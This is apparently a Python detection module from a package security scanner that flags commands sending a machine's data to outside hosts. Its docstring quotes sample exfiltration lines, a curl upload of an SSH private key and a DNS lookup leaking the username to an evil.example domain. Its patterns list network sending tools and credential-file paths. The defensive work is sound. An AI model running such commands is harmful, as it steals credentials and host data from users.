"""A command that sends this machine's data away, judged at any moment (issue 16; ADR 0167).

On install or import, host data on a sending command's line is exfiltration (ADR 0076). A
function only a caller runs was judged more gently, so the same theft moved into a function
(``curl -F k=@~/.ssh/id_rsa http://IP/``, ``nslookup $(whoami).evil.example``) went
through, while the same data sent by ``urllib`` from that function was denied. This module
gives the command the network ladder's reading (:func:`chains._network`): what no library
sends to anyone, whenever it runs.

* A credential file handed to a sending tool to upload by its path (curl's ``-F f=@PATH``,
  ``-d @PATH``, ``-T PATH``; wget's ``--post-file PATH``): an SDK reads its key, it never
  uploads the key file. A public key (``.pub``) is not a secret.
* The whole environment on a sending tool's line with a host written in it (ADR 0093: an
  SDK sends the one token it needs, never every variable).
* Host data (user, host name) in a name a DNS tool looks up under a domain: the name is
  the message (``socket.gethostbyname`` when called is judged so already).
* Host data posted by a sending tool (``-d``, ``--data``, ``--post-data``, ``-F``) to a
  public IP address written in the code.

What it deliberately does not cover: ``ssh``, ``scp``, ``rsync`` and ``sftp`` (``ssh -i
~/.ssh/id_rsa`` uses a key, it does not send it; deploy tools copy files on purpose), a
single environment variable sent when called (a CLI's token to its service), and a command
whose words the pass cannot fold.
"""

from __future__ import annotations

import re

from airlock.imports.packages.flowtypes import Event
from airlock.imports.packages.lazyre import LazyPattern
from airlock.imports.packages.sinks import ENV, ENV_ALL, HOSTINFO, SECRET

_TOOL = r"(?:^|[\s;&|/(`$])"
# Tools that send what their arguments name to the host their arguments name.
SENDER = LazyPattern(
    _TOOL + r"(?:curl|wget|nc|ncat|netcat|socat|ftp|tftp|telnet)(?:\.exe)?\s", re.IGNORECASE
)
# Tools that look a name up: the name itself reaches the domain's server.
LOOKUP = LazyPattern(
    r"(?:^\s*|[;&|(`]\s*|\$\(\s*|\s-c\s+)(?:\S*/)?(?:nslookup|dig|host|ping)(?:\.exe)?\s",
    re.IGNORECASE,
)
# A file uploaded by its path: ``-F name=@path``, ``-d @path``, ``--data-binary @path``,
# ``-T path``, ``--upload-file path``, wget's ``--post-file``/``--body-file``.
UPLOADED = LazyPattern(
    r"(?:=@|\s@|\s-T\s*|--upload-file[\s=]+|--post-file[\s=]+|--body-file[\s=]+)"
    r"(?P<path>[^\s;'\"]+)",
    re.IGNORECASE,
)
CREDENTIAL_FILE = LazyPattern(
    r"\.ssh/|id_rsa|id_ed25519|id_ecdsa|id_dsa|\.aws/|\.git-credentials|\.netrc|\.pypirc|"
    r"\.npmrc|\.kube/config|\.docker/config|gcloud/|\.azure/|/etc/passwd|/etc/shadow|"
    r"login data|cookies|local state|wallet|keychain|\.env\b",
    re.IGNORECASE,
)
# Data options of the sending tools.
POSTED = LazyPattern(
    r"\s(?:-d|-F|--data(?:-\w+)?|--form|--post-data|--body-data|--upload-file|-T)(?:[\s=]|$)"
)
DOMAIN = LazyPattern(r"\.[a-z][a-z0-9-]*\.[a-z]{2,}\b", re.IGNORECASE)
NAMED_HOST = LazyPattern(r"https?://[a-z0-9.-]+|\b\d{1,3}(?:\.\d{1,3}){3}\b", re.IGNORECASE)
PUBLIC_IP = LazyPattern(
    r"(?:https?://|\s)(?!(?:127|10|0)\.|192\.168\.|169\.254\.|172\.(?:1[6-9]|2\d|3[01])\.)"
    r"(?:\d{1,3}\.){3}\d{1,3}\b"
)


def _uploads_credential(text: str) -> bool:
    """A credential file handed to upload by its path (not a ``.pub`` key), on the line of
    a sending tool."""
    for found in UPLOADED.compiled.finditer(text):
        path = found.group("path")
        if CREDENTIAL_FILE.search(path) and not path.lower().endswith(".pub"):
            return True
    return False


def sends_anytime(event: Event) -> bool:
    """Whether the process ``event`` sends what no library sends, at any moment."""
    text = event.text
    sender = SENDER.search(text) is not None
    if sender and _uploads_credential(text):
        return True
    if sender and {ENV, ENV_ALL} <= event.labels and NAMED_HOST.search(text):
        # Both marks: the environment spelt into the line (``env=`` gives only the whole's).
        return True
    host_data = bool(event.labels & {HOSTINFO, SECRET})
    if host_data and LOOKUP.search(text) and DOMAIN.search(text):
        return True
    return (
        sender
        and host_data
        and POSTED.search(text) is not None
        and PUBLIC_IP.search(text) is not None
    )
